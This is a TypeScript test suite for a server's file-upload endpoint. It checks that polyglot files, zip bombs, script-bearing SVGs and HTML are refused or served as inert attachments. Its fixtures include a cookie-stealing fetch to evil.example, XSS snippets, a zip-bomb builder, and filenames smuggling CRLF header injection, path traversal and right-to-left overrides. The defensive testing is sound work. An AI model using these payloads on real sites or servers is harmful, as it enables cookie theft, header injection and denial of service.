import { rmSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import sharp from 'sharp';
import { createTestServer, tokenHeaders } from '../../testing/testServer';

const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
const SCRIPT = Buffer.from('*/=1;fetch("//evil.example?"+document.cookie)//');
const HTML = Buffer.from('<html><body><script>alert(1)</script></body></html>');
const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n');

/** A ZIP archive with one file of zeros that is a thousand times larger than the archive. */
function zipBomb(bytes: number) {
  const content = deflateRawSync(Buffer.alloc(bytes));
  const name = Buffer.from('a.txt');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0);
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(8, 8);
  header.writeUInt32LE(content.length, 18);
  header.writeUInt32LE(bytes, 22);
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, name, content]);
}

describe('hostile files', () => {
  let server: Awaited<ReturnType<typeof createTestServer>>;
  let token: string;

  beforeAll(async () => {
    server = await createTestServer();
    token = await server.signIn('client');
  });
  afterEach(async () => {
    await server.database.db.deleteFrom('uploadedFiles').execute();
    rmSync(server.uploadFolder, { recursive: true, force: true });
  });

  const upload = async (name: string, content: Uint8Array) => {
    const body = new FormData();
    body.set('file', new Blob([new Uint8Array(content)], { type: 'text/html' }), name);
    const response = await server.app.request('/CM-API/system/upload', {
      method: 'POST',
      headers: tokenHeaders(token),
      body,
    });
    return { status: response.status, ...(await response.json()) };
  };
  const jpeg = () =>
    sharp({ create: { width: 2, height: 2, channels: 3, background: 'red' } }).jpeg();
  const polyglots: [string, string, string, () => Promise<Buffer> | Buffer][] = [
    ['GIF and script', 'a.gif', 'image/gif', () => Buffer.concat([GIF, SCRIPT])],
    ['GIF and page', 'a.gif', 'image/gif', () => Buffer.concat([GIF, HTML])],
    ['PDF and page', 'a.pdf', 'application/pdf', () => Buffer.concat([PDF, HTML])],
    ['PDF and script', 'a.pdf', 'application/pdf', () => Buffer.concat([PDF, SCRIPT])],
    [
      'JPEG and archive',
      'a.jpg',
      'image/jpeg',
      async () => Buffer.concat([await jpeg().toBuffer(), zipBomb(1_000)]),
    ],
    ['archive and page', 'a.zip', 'application/zip', () => Buffer.concat([zipBomb(9), HTML])],
  ];

  it.each(polyglots)(
    '%s in one are what their extension says, and inert',
    async (_, name, type, make) => {
      const { data } = await upload(name, await make());

      const { headers, status } = await server.app.request(data.path);
      expect(status).toBe(200);
      expect(headers.get('content-type')).toBe(type);
      expect(headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('content-security-policy')).toBe(
        "sandbox; default-src 'none'; frame-ancestors 'none'",
      );
    },
  );

  it.each<[string, string, () => Promise<Buffer> | Buffer]>([
    ['a page before a PDF', 'a.pdf', () => Buffer.concat([HTML, PDF])],
    ['a script before a GIF', 'a.gif', () => Buffer.concat([SCRIPT, GIF])],
    [
      'a beginning of a GIF with script',
      'a.gif',
      () => Buffer.concat([Buffer.from('GIF89a'), SCRIPT]),
    ],
    ['a JPEG named as an archive', 'a.zip', async () => jpeg().toBuffer()],
    ['an archive named as a JPEG', 'a.jpg', () => zipBomb(9)],
    ['a GIF named as a PDF', 'a.pdf', () => GIF],
    ['a page named as an archive', 'a.zip', () => HTML],
    ['a drawing with script', 'a.svg', () => Buffer.from('<svg onload="alert(1)"/>')],
    ['a drawing named as a PNG', 'a.png', () => Buffer.from('<?xml version="1.0"?><svg/>')],
    ['a page', 'a.html', () => HTML],
    ['a page with two extensions', 'a.pdf.html', () => PDF],
    ['a script', 'a.js', () => SCRIPT],
  ])('refuse %s', async (_, name, make) => {
    expect((await upload(name, await make())).status).toBe(400);
    expect(await server.database.db.selectFrom('uploadedFiles').selectAll().execute()).toEqual([]);
  });

  it('never unpack an archive: a bomb is stored as it is', async () => {
    const bomb = zipBomb(200 * 1_048_576);
    const before = process.memoryUsage().rss;

    const { data } = await upload('a.zip', bomb);
    const stored = await (await server.app.request(data.path)).arrayBuffer();

    expect(Buffer.from(stored).equals(bomb)).toBe(true);
    expect(process.memoryUsage().rss - before).toBeLessThan(100 * 1_048_576);
  });

  it.each([
    ['control characters', 'a\u0001\u0007\u001b[31m.pdf'],
    ['a right-to-left override', 'invoice\u202Efdp.exe.pdf'],
    ['isolates and marks of direction', '\u2066a\u2069\u200E\u200F.pdf'],
    ['quotes', `a";filename="evil.html.pdf`],
    ['apostrophes and percent signs', `a''%0d%0ab.pdf`],
    ['semicolons', "a; filename*=UTF-8''evil.html;.pdf"],
    ['line breaks', 'a\r\nSet-Cookie: a=b\r\n\r\n<html>.pdf'],
    ['dots', '.....pdf'],
    ['parents', '../../../../etc/passwd.pdf'],
    ['parents of Windows', '..\\..\\windows\\a.pdf'],
    ['too many characters', `${'长'.repeat(5_000)}.pdf`],
    ['characters outside of the first plane', `${'😀'.repeat(150)}.pdf`],
  ])('stored under a name of %s send one plain header', async (_, stored) => {
    const { data } = await upload('a.pdf', PDF);
    // Also where it came into the database by another way.
    await server.database.db.updateTable('uploadedFiles').set({ name: stored }).execute();

    const { headers, status } = await server.app.request(data.path);

    expect(status).toBe(200);
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename\*=UTF-8''[\w.~!*'()%-]+$/,
    );
    expect(headers.get('set-cookie')).toBeNull();
  });

  it('names that are cut within a character can be stored and read', async () => {
    const { data } = await upload(`a${'😀'.repeat(150)}.pdf`, PDF);

    expect((await server.app.request(data.path)).status).toBe(200);
  });
});
